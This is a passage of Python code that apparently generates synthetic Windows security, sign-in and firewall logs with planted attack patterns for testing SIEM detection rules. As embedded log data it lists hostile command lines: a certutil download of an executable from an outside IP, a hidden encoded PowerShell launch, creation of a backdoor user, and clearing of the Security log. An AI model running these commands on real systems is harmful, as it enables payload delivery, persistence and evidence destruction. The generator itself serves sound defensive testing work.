    (4, "C:\\Windows\\System32\\services.exe", "C:\\Program Files\\Windows Defender\\MsMpEng.exe", '"C:\\Program Files\\Windows Defender\\MsMpEng.exe"'),
    (3, "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\net.exe", "net use Z: \\\\FS01\\shared"),
]
# Planted process creations after a remote logon; each command line is one real rules look for.
SE_ATTACK_PROCS = [
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\whoami.exe", "whoami /all"),  # proc_creation_win_whoami_all_execution.yml
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://185.220.101.47/a.exe C:\\Users\\Public\\a.exe"),  # proc_creation_win_certutil_download.yml
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
     "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),  # proc_creation_win_powershell_base64_*.yml
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\net.exe", "net user svc_backup P@ssw0rd! /add"),  # proc_creation_win_net_user_add.yml
    ("C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security"),  # 089_XDR_LogDeletionUsingWevtutil.yaml
]
# Threat-intelligence IPs (the kql-sentinel pack's ti_* queries list the same ones): beacons from
# workstations go to them.
TI_IPS = ["185.220.101.47", "45.155.205.233", "193.142.146.35", "91.240.118.172", "194.26.29.113"]
DOM = "CONTOSO\\"  # the Windows domain of Account columns
SERVERS = ["DC01", "DC02", "FS01", "SQL01", "ADFS01", "EXCH01"]
CSL_DEVICES = {  # DeviceVendor, DeviceProduct
    "fw": ("Palo Alto Networks", "PAN-OS"), "vpn": ("Fortinet", "Fortigate"), "proxy": ("Zscaler", "NSSWeb"),
}
WEB_DESTS = ["13.107.42.14", "52.96.165.18", "142.250.72.14", "151.101.1.69", "104.16.132.229",
             "20.190.151.70", "40.126.32.134", "199.232.46.133", "23.215.0.136", "172.217.14.78"]
URLS = ["https://outlook.office365.com/owa/", "https://teams.microsoft.com/", "https://www.google.com/search",
        "https://github.com/contoso/app", "https://contoso.sharepoint.com/sites/finance",
        "https://login.microsoftonline.com/common/oauth2", "https://cdn.jsdelivr.net/npm/jquery"]


def gen_sentinel(seed, count, rate):
    pr = random.Random(f"sentinel-pools:{seed}")
    rng = random.Random(f"sentinel-stream:{seed}")
    rnd = rng.random
    signins = gen_signin(seed, 1 << 62, rate)
    fmt = SecondFormat("%Y-%m-%dT%H:%M:%S")
    t = epoch("2024-05-01T00:00:00Z") * 1_000_000

    hosts = [(f"WS-{i:04d}", f"10.20.{i // 200}.{i % 200 + 10}") for i in range(1, 341)]
    servers = [(s, f"10.10.0.{10 + i}") for i, s in enumerate(SERVERS)]
    users, user_host, user_sid, user_ips = [], {}, {}, {}  # seen in sign-ins, in order
    failed_ips = []  # attackers' public IPs in the sign-ins (sprays, brute force)
    pick_host_user = zipf_picker(rng, 420, 1.05, 2.0)
    proc_pick, procs = weighted(rng, [(w, (J(p), J(n), J(n.rsplit("\\", 1)[1]), J(c))) for w, p, n, c in SE_BENIGN_PROCS])
    sid_base = f"S-1-5-21-{pr.randrange(10**9)}-{pr.randrange(10**9)}-{pr.randrange(10**9)}"
    nxt_rid = [1100]

    def sniff(line):
        """The sign-in's user and IP feed the other tables' pools."""
        i = line.find('"UserPrincipalName":"') + 21
        upn = line[i:line.index('"', i)]
        i = line.find('"IPAddress":"') + 13
        ip = line[i:line.index('"', i)]
        if upn.endswith("@contoso.com") and upn not in user_host:
            users.append(upn[:-12])
            user_host[upn] = len(users) % len(hosts)
            user_sid[upn[:-12]] = f"{sid_base}-{nxt_rid[0]}"
            nxt_rid[0] += 1
        if upn.endswith("@contoso.com"):
            user_ips.setdefault(upn[:-12], set()).add(ip)
        # Attackers' failures (the sprays' empty device, the brute force's Chrome 123), not users' typos.
        if ('"ResultType":"50126"' in line and ('"browser":""}' in line or '"Chrome 123.0.0"' in line)
                and ip not in failed_ips):
            failed_ips.append(ip)

    def logon_id():
        return "0x%x" % rng.randrange(0x100000, 0xfffffff)

    # SecurityEvent rows: the common columns, then the event's own.
    def se(ts, computer, eid, account, rest):
        return (f'{{"TimeGenerated":"{ts}","Computer":"{computer}.contoso.com","EventID":{eid},'
                f'"Activity":{J(SE_ACTIVITY[eid])},"Account":{J(account)},{rest},'
                f'"EventSourceName":"{"Microsoft-Windows-Eventlog" if eid == 1102 else "Microsoft-Windows-Security-Auditing"}",'
                f'"Channel":"Security","Type":"SecurityEvent"}}')

    def logon(ts, computer, user, eid, ltype, ip, lid, substatus=None):
        acct = f"CONTOSO\\{user}"
        rest = (f'"AccountType":"{"Machine" if user.endswith("$") else "User"}","TargetUserName":{J(user)},'
                f'"TargetDomainName":"CONTOSO","TargetAccount":{J(acct)},"TargetUserSid":"{user_sid.get(user, sid_base + "-500")}",'
                f'"LogonType":{ltype},"LogonProcessName":"{"User32" if ltype in (2, 10) else "NtLmSsp"}",'
                f'"AuthenticationPackageName":"{"Negotiate" if ltype in (2, 10) else "NTLM"}",'
                f'"IpAddress":"{ip}","WorkstationName":"{computer}"')
        if eid == 4624:
            rest += f',"TargetLogonId":"{lid}"'
        else:
            rest += f',"Status":"0xc000006d","SubStatus":"{substatus}","FailureReason":"%%2313"'
        return se(ts, computer, eid, acct, rest)

    def process(ts, computer, user, lid, proc):
        parent, path, name, cmd = proc
        rest = (f'"AccountType":"User","SubjectUserName":{J(user)},"SubjectDomainName":"CONTOSO",'
                f'"SubjectLogonId":"{lid}","NewProcessName":{path},"Process":{name},"CommandLine":{cmd},'
                f'"ParentProcessName":{parent},"TokenElevationType":"%%1938"')
        return se(ts, computer, 4688, f"CONTOSO\\{user}", rest)

    def account_change(ts, computer, eid, admin, target, extra=""):
        rest = (f'"AccountType":"User","SubjectUserName":{J(admin)},"SubjectAccount":{J(DOM + admin)},'
                f'"SubjectUserSid":"{user_sid.get(admin, sid_base + "-500")}","TargetUserName":{J(target)},'
                f'"TargetAccount":{J(DOM + target)},"TargetSid":"{sid_base}-{9000 + sum(map(ord, target))}"{extra}')
        return se(ts, computer, eid, f"CONTOSO\\{admin}", rest)

    def csl(ts, dev, activity, src, spt, dst, dpt, action, rest=""):
        vendor, product = CSL_DEVICES[dev]
        return (f'{{"TimeGenerated":"{ts}","DeviceVendor":"{vendor}","DeviceProduct":"{product}",'
                f'"DeviceVersion":"10.2","Activity":"{activity}","LogSeverity":"{"5" if action != "allow" else "1"}",'
                f'"SourceIP":"{src}","SourcePort":{spt},"DestinationIP":"{dst}","DestinationPort":{dpt},'
                f'"Protocol":"TCP","DeviceAction":"{action}"{rest},"Type":"CommonSecurityLog"}}')

    def some_user():
        return users[min(pick_host_user(), len(users) - 1)]

    def benign_se(ts):
        r = rnd()
        user = some_user()
        name, ip = hosts[user_host[user + "@contoso.com"]]
        if r < 0.42:
            ltype = 3 if rnd() < 0.6 else 2
            comp = servers[rng.randrange(len(servers))][0] if ltype == 3 else name
            return logon(ts, comp, user, 4624, ltype, ip, logon_id())
        if r < 0.47:  # a mistyped password
            return logon(ts, name, user, 4625, 2, ip, None, "0xc000006a" if rnd() < 0.8 else "0xc0000064")
        if r < 0.57:
            return se(ts, name, 4634, f"CONTOSO\\{user}", f'"AccountType":"User","TargetUserName":{J(user)},'
                      f'"TargetLogonId":"{logon_id()}","LogonType":2')
        if r < 0.63:
            comp = servers[rng.randrange(len(servers))][0]
            return se(ts, comp, 4672, f"CONTOSO\\{user}", f'"AccountType":"User","SubjectUserName":{J(user)},'
                      f'"SubjectLogonId":"{logon_id()}","PrivilegeList":"SeSecurityPrivilege SeBackupPrivilege"')
        if r < 0.9993:
            return process(ts, name, user, logon_id(), procs[proc_pick()])
        admin = users[rng.randrange(min(len(users), 20))]  # a helpdesk account creates a user
        return account_change(ts, "DC01", 4720, admin, f"{rng.choice(FIRST)}.{rng.choice(LAST)}")

    def benign_csl(ts):
        r = rnd()
        user = some_user()
        name, ip = hosts[user_host[user + "@contoso.com"]]
        if r < 0.55:
            dst = WEB_DESTS[rng.randrange(len(WEB_DESTS))]
            dpt = 443 if rnd() < 0.85 else rng.choice((80, 53, 123))
            return csl(ts, "fw", "TRAFFIC", ip, rng.randrange(49152, 65535), dst, dpt,
                       "allow" if rnd() < 0.97 else "deny",
                       f',"ApplicationProtocol":"{"ssl" if dpt == 443 else "web-browsing" if dpt == 80 else "dns" if dpt == 53 else "ntp"}",'
                       f'"SentBytes":{rng.randrange(200, 90000)},"ReceivedBytes":{rng.randrange(200, 900000)}')
        if r < 0.75:
            url = URLS[rng.randrange(len(URLS))]
            return csl(ts, "proxy", "url", ip, rng.randrange(49152, 65535), WEB_DESTS[rng.randrange(len(WEB_DESTS))], 443,
                       "allow" if rnd() < 0.98 else "block", f',"SourceUserName":"{user}@contoso.com","RequestURL":{J(url)}')
        if r < 0.85:  # VPN logins from the user's public IPs (seen in their sign-ins)
            pubs = sorted(user_ips[user])
            ok = rnd() < 0.95
            return csl(ts, "vpn", "ssl-login" if ok else "ssl-login-fail", pubs[rng.randrange(len(pubs))],
                       rng.randrange(1024, 65535), "52.160.10.5", 443, "allow" if ok else "deny",
                       f',"SourceUserName":"{user}@contoso.com"')
        srv, sip = servers[rng.randrange(len(servers))]  # east-west traffic to the servers
        dpt = rng.choice((445, 389, 88, 135, 1433, 443))
        return csl(ts, "fw", "TRAFFIC", ip, rng.randrange(49152, 65535), sip, dpt, "allow")

    # Planted activity: generators of row makers (ts -> line).
    def c_rdp_brute():
        # 093_SE_gte_6_FailedLogons_10m.yaml; a success after the failures, then commands in that
        # logon (032_GainCodeExecutionADFSViaSMB.yaml's join of 4624 with later events by logon id).
        src = failed_ips[rng.randrange(len(failed_ips))] if failed_ips and rnd() < 0.7 else public_ip(rng)
        srv = servers[rng.randrange(len(servers))]
        user = users[rng.randrange(len(users))]
        for _ in range(rng.randrange(8, 30)):
            yield lambda ts: logon(ts, srv[0], user, 4625, 10, src, None, "0xc000006a")
            if rnd() < 0.5:
                yield lambda ts: csl(ts, "fw", "TRAFFIC", src, rng.randrange(1024, 65535), "52.160.10.5", 3389, "allow")
        if rnd() < 0.6:
            lid = logon_id()
            yield lambda ts: logon(ts, srv[0], user, 4624, 10, src, lid)
            for p in rng.sample(SE_ATTACK_PROCS, rng.randrange(1, 4)):
                yield lambda ts, p=p: process(ts, srv[0], user, lid, tuple(map(J, (p[0], p[1], p[1].rsplit("\\", 1)[1], p[2]))))

    def c_create_delete():
        # 092_SE_UserAccountCreatedDeleted_10m.yaml (created and deleted within minutes) and
        # 122_XDR_LocalAdminGroupChanges.yaml (added to the local Administrators group).
        admin = users[rng.randrange(len(users))]
        target = f"{rng.choice(FIRST)}{rng.randrange(10, 99)}"
        yield lambda ts: account_change(ts, "DC01", 4720, admin, target)
        if rnd() < 0.5:
            yield lambda ts: account_change(ts, "DC01", 4732, admin, "Administrators",
                                            f',"MemberName":"CN={target},CN=Users,DC=contoso,DC=com","MemberSid":"{sid_base}-{9000 + sum(map(ord, target))}"')
        for _ in range(rng.randrange(2, 8)):
            yield benign_se  # a few other rows between (a None would end the campaign)
        yield lambda ts: account_change(ts, "DC01", 4726, admin, target)

    def c_fake_computer():  # 097_SE_FakeComputerAccountCreated.yaml
        admin = users[rng.randrange(len(users))]
        yield lambda ts: account_change(ts, "DC02", 4720, admin, f"DESKTOP-{rng.randrange(10**6):06d}$")

    def c_log_cleared():  # 033_NRT_SecurityEventLogCleared.yaml
        user = users[rng.randrange(len(users))]
        comp = hosts[user_host[user + "@contoso.com"]][0] if rnd() < 0.5 else servers[rng.randrange(len(servers))][0]
        yield lambda ts: se(ts, comp, 1102, f"CONTOSO\\{user}", f'"AccountType":"User","SubjectUserName":{J(user)}')

    def c_port_scan():  # 114_ASim_PortScan.yaml: one source over many destination ports, denied
        src = failed_ips[rng.randrange(len(failed_ips))] if failed_ips and rnd() < 0.5 else public_ip(rng)
        ports = rng.sample(range(1, 10000), rng.randrange(40, 120))
        for p in ports:
            yield lambda ts, p=p: csl(ts, "fw", "TRAFFIC", src, rng.randrange(1024, 65535), "52.160.10.5", p,
                                      "deny" if rnd() < 0.9 else "drop")

    def c_beacon():  # a workstation beaconing to a threat-intelligence IP (107_TI_IPEntity_AzureActivity.yaml)
        user = users[rng.randrange(len(users))]
        ip = hosts[user_host[user + "@contoso.com"]][1]
        dst = TI_IPS[rng.randrange(len(TI_IPS))]
        for _ in range(rng.randrange(5, 20)):
            yield lambda ts: csl(ts, "fw", "TRAFFIC", ip, rng.randrange(49152, 65535), dst, 8443, "allow",
                                 f',"ApplicationProtocol":"ssl","SentBytes":{rng.randrange(300, 900)},"ReceivedBytes":{rng.randrange(300, 2000)}')

    def c_vpn_spray():  # the sign-in sprayers' IPs at the VPN too (028_SigninPasswordSpray.yaml, for CEF)
        if not failed_ips:
            return
        src = failed_ips[-1 - rng.randrange(min(len(failed_ips), 5))]
        for _ in range(rng.randrange(10, 40)):
            yield lambda ts: csl(ts, "vpn", "ssl-login-fail", src, rng.randrange(1024, 65535), "52.160.10.5", 443, "deny",
                                 f',"SourceUserName":"{users[rng.randrange(len(users))]}@contoso.com"')

    camp = Campaigns(rng, 0.003 * rate, [(3, c_rdp_brute), (2, c_create_delete), (1, c_fake_computer),
                                         (1, c_log_cleared), (2, c_port_scan), (2, c_beacon), (2, c_vpn_spray)],
                     interleave=0.4)
    made = 0
    while made < count:
        t += int(rng.expovariate(1 / 500_000))  # mean 0.5 s
        ts = f"{fmt(t // 1_000_000)}.{t % 1_000_000:06d}0Z"
        r = rnd()
        if r < 0.3 or len(users) < 20:  # SigninLogs (and the pools fill from the first sign-ins)
            line = next(signins)
            sniff(line)
            line = line[:18] + ts + line[46:]
        else:
            maker = camp.next()
            if maker is not None:
                line = maker(ts)
            elif r < 0.7:
                line = benign_se(ts)
            else:
                line = benign_csl(ts)
        made += 1
        yield line


# =========================================================================== main

KINDS = {"netskope": gen_netskope, "signin": gen_signin, "process_creation": gen_process, "sentinel": gen_sentinel}


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--kind", required=True, choices=sorted(KINDS))
    ap.add_argument("--count", required=True, type=int)
    ap.add_argument("--seed", required=True, type=int)
    ap.add_argument("--out", help="output file (default: stdout)")
    ap.add_argument("--attack-rate", type=float, default=1.0,
                    help="multiplier for how often planted (rule-matching) activity starts; 0 = none")
    a = ap.parse_args(argv)
    if a.count < 0:
        ap.error("--count must be >= 0")
    out = open(a.out, "wb") if a.out else sys.stdout.buffer
    try:
        batch = []
        for line in KINDS[a.kind](a.seed, a.count, a.attack_rate):
            batch.append(line)
            if len(batch) >= 2000:
                out.write(("\n".join(batch) + "\n").encode("utf-8"))
                batch.clear()
        if batch:
            out.write(("\n".join(batch) + "\n").encode("utf-8"))
        out.flush()
    except BrokenPipeError:  # e.g. `| head`: stop quietly
        os.dup2(os.open(os.devnull, os.O_WRONLY), sys.stdout.fileno())
        sys.exit(1)
    finally:
        if a.out:
            out.close()


if __name__ == "__main__":
    main()
